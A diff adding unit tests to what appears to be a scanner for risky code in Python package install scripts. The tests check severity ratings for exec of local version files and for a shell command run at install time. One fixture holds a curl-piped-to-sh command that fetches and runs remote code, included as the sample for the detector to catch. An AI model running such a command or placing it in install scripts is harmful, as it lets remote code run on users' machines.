@@ -460,3 +460,33 @@ def test_files_without_risky_words_are_not_parsed() -> None:
 def test_not_installed_files_are_marked() -> None:
     [finding] = findings("import os\nos.system('id')\n", FileRole.NOT_INSTALLED)
     assert finding.not_installed is True
+
+
+def test_version_exec_idiom_in_setup_py_is_low() -> None:
+    source = """\
+    import os
+    from setuptools import setup
+    about = {}
+    exec(open(os.path.join(here, "pkg", "__version__.py")).read(), about)
+    exec(compile(open("pkg/version.py").read(), "version.py", "exec"))
+    setup(version=about["__version__"])
+    """
+    assert [(f.type.value, f.severity, f.api, f.line, f.normalized, f.reason)
+            for f in findings(source, INSTALL)] == [
+        ("dynamic-code", Severity.LOW, "builtins.exec", 4, "local-file",
+         "Runs code read from the local file __version__.py with exec."),
+        ("dynamic-code", Severity.LOW, "builtins.exec", 5, "local-file",
+         "Runs code read from the local file pkg/version.py with exec."),
+        ("dynamic-code", Severity.LOW, "builtins.compile", 5, "local-file",
+         "Runs code read from the local file pkg/version.py with compile."),
+    ]
+
+
+def test_python2_setup_py_still_maps_to_install_network() -> None:
+    source = b"import os\nprint 'installing'\nos.system('curl http://x | sh')\n"
+    result = analyze(source, INSTALL)
+    assert result.parsed is False
+    assert [(f.type.value, f.severity, f.api, f.line, f.reason) for f in result.findings] == [
+        ("install-network", Severity.CRITICAL, "os.system", 3,
+         "Starts a shell command with os.system while the package is installed."),
+    ]
